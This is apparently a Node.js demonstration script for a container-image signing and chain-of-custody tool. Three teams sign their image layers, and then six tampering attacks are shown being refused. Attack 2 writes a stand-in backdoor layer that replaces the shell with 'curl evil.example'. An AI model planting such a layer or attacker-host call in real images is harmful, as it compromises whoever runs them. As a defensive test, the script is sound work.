/**
 * `npm start`: the main job, offline, on a layout on disk. Three teams build on each other's image; each checks what it was
 * handed, adds its layer, marks it, and hands on. The last one to receive it proves whose every layer is; then six attacks
 * are refused, each with its reason. Every command is printed before it runs; pasted into a shell in this folder, they do
 * the same.
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const root = dirname(dirname(dirname(fileURLToPath(import.meta.url))));
const environment = { ...process.env, TOUCHMARK_PASSWORD: 'a password for this demonstration', CI: 'true' };
for (const name of Object.keys(environment))
  if (/^TOUCHMARK_(?!PASSWORD$)/.test(name)) delete environment[name];

const say = text => process.stdout.write(`${text}\n`);
const failures = [];

function quote(word) {
  return /^[\w@%+=:,./-]+$/.test(word) ? word : `'${word}'`;
}

/** Prints a command line, runs it, and holds its exit code against what the story expects. */
function run(program, words, { expect = 0, quiet = false } = {}) {
  const script = { touchmark: 'dist/cli/bin.js' }[program] ?? `test/demo/${program}.mjs`;
  const shown = program === 'touchmark' ? 'touchmark' : `node ${script}`;
  say(`$ ${[shown, ...words.map(quote)].join(' ')}`);
  const result = spawnSync(process.execPath, [script, ...words], {
    cwd: root,
    env: environment,
    encoding: 'utf8',
  });
  if (!quiet) process.stdout.write(`${result.stdout}${result.stderr}`);
  if (result.status !== expect) {
    if (quiet) process.stdout.write(`${result.stdout}${result.stderr}`);
    failures.push(`${shown} ${words.join(' ')}: exit code ${result.status}, expected ${expect}`);
  }
  return result.stdout;
}

/** The digest of one layer of an image. */
function layerOf(reference, index) {
  const { layers } = JSON.parse(run('touchmark', ['inspect', reference, '-o', 'json'], { quiet: true }));
  return layers[index].digest;
}

const POLICY = ['--policy', 'work/policy.yaml'];
const verify = (reference, expect, ...more) =>
  run('touchmark', ['custody', 'verify', reference, ...POLICY, ...more], { expect });

rmSync(join(root, 'work'), { recursive: true, force: true });
mkdirSync(join(root, 'work'));

say('# Run these lines yourself, in this folder:');
say('$ alias touchmark="node dist/cli/bin.js"');
say(`$ export TOUCHMARK_PASSWORD=${quote(environment.TOUCHMARK_PASSWORD)}`);
say('$ mkdir -p work');

say('\n# Three teams and a scanner, a key each. Eve belongs to none of them.');
for (const name of ['linus', 'ada', 'grace', 'scanner', 'eve'])
  run('touchmark', ['key', 'generate', `work/${name}`], { quiet: true });

say('\n# The policy: who the teams are, in which order they build, and that the result must be scanned.');
run('touchmark', [
  'policy',
  'init',
  'work/policy.yaml',
  ...['--name', 'shop', '--repository', 'registry.example/*'],
  ...['--team', 'base=work/linus.pub', '--team', 'runtime=work/ada.pub', '--team', 'app=work/grace.pub'],
  ...['--team', 'security=work/scanner.pub', '--approval', 'scan=security'],
]);

say('# And which files the two teams may touch that build on others.');
const rules = `paths:
  runtime: { allow: ["/usr/bin/**"] }
  app: { allow: ["/opt/app/**"] }
`;
const written = readFileSync(join(root, 'work/policy.yaml'), 'utf8');
writeFileSync(
  join(root, 'work/policy.yaml'),
  written.replace(/^evidence: .*$/m, 'evidence: content') + rules,
);
say("$ sed -i 's/^evidence: .*$/evidence: content/' work/policy.yaml");
say(`$ cat >> work/policy.yaml <<'END'\n${rules}END`);

const builds = [
  {
    team: 'base',
    key: 'linus',
    files: ['etc/os-release=ID=demo', 'bin/sh=a shell', 'usr/lib/libssl.so.3=a library'],
  },
  { team: 'runtime', key: 'ada', on: 'base', files: ['usr/bin/run=a runtime'] },
  { team: 'app', key: 'grace', on: 'runtime', files: ['opt/app/main=echo hello'] },
];
for (const { team, key, on, files } of builds) {
  const image = `oci:work/image:${team}`;
  say(
    on
      ? `\n# The ${team} team adds its layer. Marking checks the chain below it first, then signs its own link.`
      : `\n# The ${team} team builds an image and marks it.`,
  );
  run('add-layer', [image, ...(on ? ['--from', `oci:work/image:${on}`] : []), ...files]);
  run('touchmark', [
    ...['custody', 'mark', image, '--team', team, '--step', team],
    ...(on ? ['--base', `oci:work/image:${on}`] : []),
    ...['--as', `registry.example/${team}`, ...POLICY, '--key', `work/${key}.key`, '--yes'],
  ]);
}

say('\n# Not finished yet: the policy wants a scan.');
verify('oci:work/image:app', 15);
writeFileSync(join(root, 'work/report.json'), '{"findings":0}\n');
say(`$ echo '{"findings":0}' > work/report.json`);
run('touchmark', [
  ...['custody', 'approve', 'oci:work/image:app', '--team', 'security', '--step', 'scan'],
  ...['--evidence', 'report=work/report.json', '--as', 'registry.example/app'],
  ...[...POLICY, '--key', 'work/scanner.key', '--yes'],
]);

say('\n# It travels as one file, with everything that proves it, to where it will run.');
run('touchmark', ['copy', 'oci:work/image:app', 'oci-archive:work/delivery.tar:app']);

say('\n# There, offline: who put every layer there, and were they entitled to?');
verify('oci-archive:work/delivery.tar:app', 0, '--offline');

say('\n# Attack 1: one bit of the base layer is changed.');
run('touchmark', ['copy', 'oci:work/image:app', 'oci:work/flipped:app'], { quiet: true });
run('flip-byte', ['work/flipped', layerOf('oci:work/flipped:app', 0)]);
verify('oci:work/flipped:app', 18);

say('\n# Attack 2: Eve adds a layer and signs the image with her own key.');
run('touchmark', ['copy', 'oci:work/image:app', 'oci:work/backdoor:app'], { quiet: true });
run('add-layer', ['oci:work/backdoor:evil', '--from', 'oci:work/backdoor:app', 'bin/sh=curl evil.example']);
run('touchmark', [
  ...['sign', 'oci:work/backdoor:evil', '--as', 'registry.example/app', '--key', 'work/eve.key', '--yes'],
]);
verify('oci:work/backdoor:evil', 10);

say('\n# Attack 3: she hangs the marks of the good image on hers.');
run('lift-marks', ['oci:work/backdoor:app', 'oci:work/backdoor:evil']);
verify('oci:work/backdoor:evil', 10);

say('\n# Attack 4: the marks of the teams before are withheld.');
run('touchmark', ['copy', 'oci:work/image:app', 'oci:work/withheld:app'], { quiet: true });
run('withhold', ['work/withheld', 'app']);
verify('oci:work/withheld:app', 15);

say('\n# Attack 5: an image of the runtime team, well marked, is passed off as the application.');
verify('oci:work/image:runtime', 12, '--as', 'registry.example/app');

say('\n# Attack 6: the application team replaces a library of the base. Its own tool refuses to mark that…');
run('add-layer', [
  ...['oci:work/image:replaced', '--from', 'oci:work/image:runtime'],
  ...['opt/app/main=echo hello', 'usr/lib/libssl.so.3=another library'],
]);
const markReplaced = (policy, expect) =>
  run(
    'touchmark',
    [
      ...['custody', 'mark', 'oci:work/image:replaced', '--team', 'app', '--step', 'app'],
      ...['--base', 'oci:work/image:runtime', '--as', 'registry.example/app'],
      ...['--policy', policy, '--key', 'work/grace.key', '--yes'],
    ],
    { expect },
  );
markReplaced('work/policy.yaml', 16);
say('# …and marked by a policy of its own making, it is refused by whoever verifies.');
writeFileSync(
  join(root, 'work/loose.yaml'),
  readFileSync(join(root, 'work/policy.yaml'), 'utf8').replace(/app: { allow: .*/, 'app: { allow: ["/**"] }'),
);
say(`$ sed 's|app: { allow: .*|app: { allow: ["/**"] }|' work/policy.yaml > work/loose.yaml`);
markReplaced('work/loose.yaml', 0);
verify('oci:work/image:replaced', 16, '--handover', 'security');

if (failures.length > 0) {
  process.stderr.write(`\nnot as expected:\n${failures.map(failure => `  ${failure}\n`).join('')}`);
  process.exitCode = 1;
} else {
  say(
    '\n# All as expected: every layer has its owner, six attacks were refused. The files are in work/; to see',
  );
  say('# the chain: touchmark custody show oci:work/image:app --policy work/policy.yaml');
}
